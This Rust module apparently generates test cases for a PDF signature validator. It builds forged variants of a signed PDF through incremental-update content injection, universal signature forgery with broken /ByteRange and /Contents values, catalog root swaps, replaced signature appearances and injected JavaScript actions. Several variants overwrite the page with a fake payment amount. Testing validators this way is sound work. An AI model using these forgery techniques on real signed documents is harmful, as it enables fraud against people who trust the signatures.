//! Incremental saving attacks, universal signature forgery, root swap, changed signatures, untrusted signatures.

use pdf_signature::appearance::Area;
use pdf_signature::document::{Document, Object, SignatureField};
use pdf_signature::update::{FormXObject, Update};

use super::Attack;
use super::base::{self, Form, catalog, page_1};
use super::forge::Forge;
use super::people::{People, signed};

/// What the attacks need to know of the victim.
pub struct Facts {
    pub signature: SignatureField,
    pub form: u32,
    pub field: u32,
    pub value: u32,
    pub appearance: u32,
    /// Source of the field and of the signature dictionary.
    pub field_source: String,
    pub value_source: String,
}

pub fn facts(victim: &[u8]) -> Facts {
    let document = Document::open(victim).unwrap();
    let view = document.latest();
    let signature = document.signature_fields().unwrap().signed.remove(0);
    let field = view.get(signature.field).unwrap().unwrap();
    let value = view.get(signature.value).unwrap().unwrap();
    let source = |span: std::ops::Range<usize>| {
        let text = String::from_utf8_lossy(&victim[span]).into_owned();
        let start = text.find("obj\n").unwrap() + 4;
        text[start..text.rfind("\nendobj").unwrap()].to_owned()
    };
    let appearance = field
        .dictionary()
        .and_then(|field| field.get("AP")?.dictionary()?.get("N")?.reference());
    Facts {
        form: view.form().unwrap().id.unwrap().number,
        field: signature.field.number,
        value: signature.value.number,
        appearance: appearance.unwrap().number,
        field_source: source(field.span.clone()),
        value_source: source(value.span.clone()),
        signature,
    }
}

const FAKE: &str = "BT /F1 13 Tf 90 700 Td (Chi 90.000.000 dong) Tj ET";
const OVER_EVERYTHING: &str = "1 g 0 0 595 842 re f";

#[expect(clippy::too_many_lines, reason = "a table of attacks")]
pub fn attacks(form: Form, victim: &[u8]) -> Vec<Attack> {
    let facts = facts(victim);
    let with_form = |more: &str| catalog(base::PAGES, &format!("/AcroForm {} 0 R {more}", facts.form));
    let annotations = format!("8 0 R {} 0 R", facts.field);
    let forge = || Forge::on(victim);
    let new = Forge::on(victim).fresh();
    let mut all = Vec::new();
    let mut add = |class: &'static str, name: &str, pdf: Vec<u8>| {
        all.push(Attack {
            class,
            name: name.to_owned(),
            form,
            pdf,
            cryptography_only: false,
        });
    };

    add(
        "isa",
        "content",
        forge().stream(base::CONTENT_1, "", FAKE).finish(),
    );
    let note = "<< /Type /Annot /Subtype /FreeText /Rect [90 690 300 720] /Contents (99) /DA (/F1 13 Tf) >>";
    let one_more = page_1(&format!("{annotations} {new} 0 R"), "");
    add(
        "isa",
        "annotation",
        forge().object(new, note).object(base::PAGE_1, &one_more).finish(),
    );
    let list = format!("[13 0 R {new} 0 R]");
    add(
        "isa",
        "annotation-in-list",
        forge()
            .object(new, note)
            .object(base::ANNOTATIONS_2, &list)
            .finish(),
    );
    add(
        "isa",
        "annotation-removed",
        forge()
            .object(base::PAGE_1, &page_1(&format!("{} 0 R", facts.field), ""))
            .finish(),
    );
    add(
        "isa",
        "annotation-replaced",
        forge().object(base::LINK, note).finish(),
    );
    let font = "<< /Type /Font /Subtype /Type1 /BaseFont /Symbol >>";
    add("isa", "font", forge().object(base::FONT, font).finish());
    let page = format!("<< /Type /Page /Parent 2 0 R /Contents {} 0 R >>", new + 1);
    let pages = format!("<< /Type /Pages /Kids [3 0 R 4 0 R {new} 0 R] /Count 3 /MediaBox [0 0 595 842] >>");
    add(
        "isa",
        "page-added",
        forge()
            .object(new, &page)
            .stream(new + 1, "", FAKE)
            .object(base::PAGES, &pages)
            .finish(),
    );
    let pages = "<< /Type /Pages /Kids [4 0 R 3 0 R] /Count 2 /MediaBox [0 0 595 842] >>";
    add(
        "isa",
        "pages-reordered",
        forge().object(base::PAGES, pages).finish(),
    );
    let pages = "<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 /MediaBox [0 0 595 842] /Rotate 180 >>";
    add(
        "isa",
        "inherited-rotation",
        forge().object(base::PAGES, pages).finish(),
    );
    let script = "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>";
    add(
        "isa",
        "open-action",
        forge().object(base::CATALOG, &with_form(script)).finish(),
    );
    let names = "/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>";
    add(
        "isa",
        "names-javascript",
        forge().object(base::CATALOG, &with_form(names)).finish(),
    );
    let layers = format!("/OCProperties << /OCGs [{new} 0 R] /D << /OFF [{new} 0 R] >> >>");
    let layer = "<< /Type /OCG /Name (an) >>";
    add(
        "isa",
        "optional-content",
        forge()
            .object(new, layer)
            .object(base::CATALOG, &with_form(&layers))
            .finish(),
    );
    add(
        "isa",
        "media-box",
        forge()
            .object(base::PAGE_1, &page_1(&annotations, "/MediaBox [0 300 595 842] "))
            .finish(),
    );
    add(
        "isa",
        "page-action",
        forge()
            .object(
                base::PAGE_1,
                &page_1(&annotations, "/AA << /O << /S /JavaScript /JS (1) >> >> "),
            )
            .finish(),
    );
    let resources = page_1(&annotations, "").replace("/F1 7 0 R", &format!("/F1 {new} 0 R"));
    add(
        "isa",
        "resources",
        forge()
            .object(new, font)
            .object(base::PAGE_1, &resources)
            .finish(),
    );
    add(
        "isa",
        "dangling-reference",
        forge()
            .stream(
                base::DANGLING,
                "/Type /XObject /Subtype /Form /BBox [0 0 595 842]",
                OVER_EVERYTHING,
            )
            .finish(),
    );
    add("isa", "freed", forge().free(base::CONTENT_1).finish());
    let metadata = with_form("").replace("/Metadata 9 0 R", "/Metadata 5 0 R");
    add(
        "isa",
        "content-as-metadata",
        forge()
            .object(base::CATALOG, &metadata)
            .stream(base::CONTENT_1, "/Type /Metadata /Subtype /XML", FAKE)
            .finish(),
    );
    add(
        "isa",
        "content-as-information",
        forge()
            .info(base::CONTENT_1)
            .stream(base::CONTENT_1, "", FAKE)
            .finish(),
    );
    let store = with_form("/DSS << /Certs [5 0 R] >>");
    add(
        "isa",
        "content-as-evidence",
        forge()
            .object(base::CATALOG, &store)
            .stream(base::CONTENT_1, "", FAKE)
            .finish(),
    );
    add(
        "isa",
        "without-xref",
        forge().stream(base::CONTENT_1, "", FAKE).objects_only(),
    );
    let objects = forge().stream(base::CONTENT_1, "", FAKE);
    let previous = objects.previous();
    let objects = objects.objects_only();
    let trailer =
        format!("trailer\n<< /Size 40 /Root 1 0 R /Prev {previous} >>\nstartxref\n{previous}\n%%EOF\n");
    add("isa", "trailer-only", [&objects[..], trailer.as_bytes()].concat());
    let copied = format!("startxref\n{previous}\n%%EOF\n");
    add(
        "isa",
        "copied-startxref",
        [&objects[..], copied.as_bytes()].concat(),
    );
    add(
        "isa",
        "garbage-tail",
        [victim, b"<html>5 0 obj</html>\n"].concat(),
    );
    add(
        "isa",
        "garbage-tail-with-end",
        [victim, b"<html>5 0 obj</html>\n%%EOF\n"].concat(),
    );

    let range = range_of(&facts.value_source);
    let [a, b, c] = facts
        .signature
        .signed
        .as_ref()
        .map(|parts| [parts[0].end, parts[1].start, parts[1].len()])
        .unwrap();
    let ranges = [
        ("range-null", "/ByteRange null".to_owned()),
        ("range-negative", format!("/ByteRange [0 {a} {b} -{c}]")),
        ("range-zero", "/ByteRange [0 0 0 0]".to_owned()),
        ("range-missing", String::new()),
        ("range-two-numbers", format!("/ByteRange [0 {a}]")),
        ("range-of-the-original", range.to_owned()),
    ];
    for (name, replacement) in ranges {
        let value = facts.value_source.replace(range, &replacement);
        add("usf", name, forge().object(facts.value, &value).finish());
    }
    let start = facts.value_source.find("/Contents").unwrap();
    for (name, contents) in [
        ("contents-missing", ""),
        ("contents-null", "/Contents null"),
        ("contents-empty", "/Contents <>"),
    ] {
        let value = format!("{}{contents} >>", &facts.value_source[..start]);
        add("usf", name, forge().object(facts.value, &value).finish());
    }

    add(
        "root-swap",
        "hidden-catalog",
        forge().root(base::HIDDEN_CATALOG).finish(),
    );
    let swapped = catalog(base::HIDDEN_PAGES, &format!("/AcroForm {} 0 R ", facts.form));
    add(
        "root-swap",
        "same-form",
        forge().object(new, &swapped).root(new).finish(),
    );
    add(
        "root-swap",
        "catalog-overwritten",
        forge().object(base::CATALOG, &swapped).finish(),
    );
    add(
        "root-swap",
        "form-removed",
        forge().object(base::CATALOG, &catalog(base::PAGES, "")).finish(),
    );
    add(
        "root-swap",
        "fields-emptied",
        forge()
            .object(facts.form, "<< /Fields [] /SigFlags 3 >>")
            .finish(),
    );

    let value = facts
        .field_source
        .replace(&format!("/V {} 0 R", facts.value), &format!("/V {new} 0 R"));
    add(
        "signature",
        "value-replaced",
        forge()
            .object(new, &facts.value_source)
            .object(facts.field, &value)
            .finish(),
    );
    let rectangle = facts.field_source.find("/Rect [").unwrap();
    let end = facts.field_source[rectangle..].find(']').unwrap() + rectangle;
    let moved = format!(
        "{}/Rect [0 0 595 842{}",
        &facts.field_source[..rectangle],
        &facts.field_source[end..]
    );
    add("signature", "moved", forge().object(facts.field, &moved).finish());
    let drawing = "/Type /XObject /Subtype /Form /BBox [0 0 100 100]";
    add(
        "signature",
        "appearance-overwritten",
        forge()
            .stream(facts.appearance, drawing, OVER_EVERYTHING)
            .finish(),
    );
    let shown = facts
        .field_source
        .replace(&format!("/N {} 0 R", facts.appearance), &format!("/N {new} 0 R"));
    add(
        "signature",
        "appearance-replaced",
        forge()
            .stream(new, drawing, OVER_EVERYTHING)
            .object(facts.field, &shown)
            .finish(),
    );
    let text = "<< /Type /Annot /Subtype /Widget /FT /Tx /T (chu) /V (99) /Rect [90 690 300 720] /F 4 >>";
    let fields = format!("<< /Fields [{} 0 R {new} 0 R] /SigFlags 3 >>", facts.field);
    add(
        "signature",
        "text-field-added",
        forge()
            .object(new, text)
            .object(facts.form, &fields)
            .object(base::PAGE_1, &one_more)
            .finish(),
    );
    let empty = format!(
        "<< /Type /Annot /Subtype /Widget /FT /Sig /T (S9) /Rect [0 0 595 842] /F 4 /AP << /N {} 0 R >> >>",
        new + 1
    );
    add(
        "signature",
        "unsigned-field-covers-page",
        forge()
            .object(new, &empty)
            .stream(new + 1, drawing, OVER_EVERYTHING)
            .object(facts.form, &fields)
            .object(base::PAGE_1, &one_more)
            .finish(),
    );
    let acting = "<< /Type /Annot /Subtype /Widget /FT /Sig /T (S9) /Rect [0 0 0 0] /F 4 /AA << /E << /S /JavaScript /JS (1) >> >> >>";
    add(
        "signature",
        "field-with-action",
        forge()
            .object(new, acting)
            .object(facts.form, &fields)
            .object(base::PAGE_1, &one_more)
            .finish(),
    );
    let needing = format!(
        "<< /Fields [{} 0 R] /SigFlags 3 /NeedAppearances true >>",
        facts.field
    );
    add(
        "signature",
        "need-appearances",
        forge().object(facts.form, &needing).finish(),
    );

    let page = Area {
        page: 1,
        x: 0.0,
        y: 0.0,
        width: 209.0,
        height: 297.0,
    };
    add(
        "untrusted",
        "covers-page",
        signed(victim, &People::rogue().person, "ChuKy2", Some(page)),
    );
    add(
        "untrusted",
        "content-as-appearance",
        content_as_appearance(victim),
    );

    let mut in_place = victim.to_vec();
    let at = in_place
        .windows(10)
        .position(|window| window == b"10.000.000")
        .unwrap();
    in_place[at] = b'9';
    all.push(Attack {
        class: "isa",
        name: "in-place".to_owned(),
        form,
        pdf: in_place,
        cryptography_only: true,
    });
    all
}

fn range_of(source: &str) -> &str {
    let start = source.find("/ByteRange").unwrap();
    let end = source[start..].find(']').unwrap() + start + 1;
    &source[start..end]
}

/// A second signature, whose drawing overwrites the content of page 1.
fn content_as_appearance(victim: &[u8]) -> Vec<u8> {
    let document = Document::open(victim).unwrap();
    let mut update = Update::new(&document);
    let page = document.latest().page(1).unwrap().unwrap();
    let content = page
        .object
        .dictionary()
        .unwrap()
        .get("Contents")
        .and_then(Object::reference)
        .unwrap();
    update.set_source(
        content,
        format!(
            "<< /Type /XObject /Subtype /Form /BBox [0 0 595 842] /Length {} >>\nstream\n{FAKE}\nendstream",
            FAKE.len()
        )
        .into_bytes(),
    );
    let form = FormXObject {
        content: Vec::new(),
        bbox: [0.0; 4],
        ..FormXObject::default()
    };
    update.add_form(&form, [1, 0, 0, 1]);
    let changed = [victim, &update.finish().bytes].concat();
    signed(&changed, &People::trusted().agency, "ChuKy2", None)
}
